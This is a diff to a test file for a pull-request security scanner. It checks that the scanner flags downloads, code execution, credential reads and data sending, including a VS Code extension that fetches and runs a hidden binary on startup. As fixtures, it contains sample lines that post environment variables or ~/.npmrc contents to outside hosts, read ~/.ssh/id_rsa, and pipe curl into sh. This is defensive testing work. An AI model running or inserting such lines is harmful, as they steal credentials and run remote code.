@@ -24,6 +24,9 @@ describe('readBehaviors', () => {
     expect(kinds('let body = reqwest::blocking::get(url)?.bytes()?;\nCommand::new(&path).status()?;', 'rust')).toEqual(['download', 'execute']);
     expect(kinds('data = dict(os.environ)\nrequests.post("https://collector.example/x", json=data)', 'python')).toEqual(['environment', 'send']);
     expect(kinds('key = open(os.path.expanduser("~/.ssh/id_rsa")).read()', 'python')).toEqual(['credential-file']);
+    expect(kinds("const token = execSync('gh auth token').toString();", 'js')).toEqual(['credential-file', 'execute']);
+    expect(kinds('TOKEN=$(gcloud auth print-access-token)', 'shell')).toContain('credential-file');
+    expect(kinds('gh auth status', 'shell')).toEqual([]);
     expect(kinds('system("curl -sL https://example.com/tool -o /tmp/tool && chmod +x /tmp/tool && /tmp/tool")', 'ruby')).toEqual(['download', 'execute']);
     expect(kinds("tasks.register<Exec>(\"fetch\") { commandLine(\"sh\", \"-c\", \"curl http://203.0.113.9/x | sh\") }", 'java')).toEqual(['download', 'execute', 'suspicious-host']);
     expect(kinds('<get src="https://example.com/agent.jar" dest="target/agent.jar"/>', 'xml')).toEqual(['download']);
@@ -220,6 +223,21 @@ module.exports = { hooks: { readPackage } };
     const withScript = change('package.json', pkg({}), pkg({ scripts: { postinstall: 'node scripts/setup.js' } }));
     expect(buildFinding(withScript, added('scripts/setup.js', script))).toMatchObject({ severity: 'high', path: 'scripts/setup.js', title: 'postinstall script of package.json downloads and runs code at npm install time' });
     expect(buildFinding(change('package.json', pkg({}), pkg({ scripts: { build: 'node scripts/setup.js' } })), added('scripts/setup.js', script))).toBeNull();
+  });
+
+  it('reads the entry of a VS Code extension the PR makes start with the editor, on a ladder where talking to its service is ordinary', () => {
+    const manifest = (activationEvents: string[], main = './out/extension.js') => `${JSON.stringify({ name: 'tidy', publisher: 'acme', engines: { vscode: '^1.90.0' }, main, activationEvents }, null, 2)}\n`;
+    const toStartup = change('package.json', manifest(['onCommand:tidy.run']), manifest(['onStartupFinished']));
+    const fetchRun = "require('child_process').exec('curl -sL https://cdn.tidy.dev/h -o /tmp/.h && chmod +x /tmp/.h && /tmp/.h');";
+    expect(buildFinding(toStartup, added('src/extension.ts', fetchRun))).toMatchObject({ severity: 'high', path: 'src/extension.ts', title: 'VS Code extension entry (./out/extension.js) downloads and runs code when VS Code starts' });
+    const steal = "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nfetch('https://sync.tidy.dev/s', { method: 'POST', body: rc });";
+    expect(buildFinding(change('package.json', manifest(['onCommand:tidy.run']), manifest(['*'], './extension.js')), added('extension.js', steal))).toMatchObject({ severity: 'critical', path: 'extension.js' });
+    // Its service, a tool it runs, an update check: ordinary; and nothing when the PR leaves activation and entry as they were.
+    const ordinary = "fetch('https://api.github.com/repos/acme/tidy/releases/latest').then((r) => r.json());\nexecFile('git', ['rev-parse', '--show-toplevel']);\nfetch('https://telemetry.tidy.dev/v1/start', { method: 'POST', body: '{}' });";
+    expect(buildFinding(toStartup, added('src/extension.ts', ordinary))).toBeNull();
+    const unchanged = change('package.json', manifest(['*']), `${JSON.stringify({ name: 'tidy', publisher: 'acme', version: '1.1.0', engines: { vscode: '^1.90.0' }, main: './out/extension.js', activationEvents: ['*'] }, null, 2)}\n`);
+    expect(buildFinding(unchanged, added('src/extension.ts', fetchRun))).toBeNull();
+    expect(buildFinding(change('package.json', manifest(['onCommand:tidy.run']), manifest(['onLanguage:json'])), added('src/extension.ts', fetchRun))).toBeNull();
   });
 
   it('reads Gradle exec and download tasks, and leaves publishing credentials alone', () => {
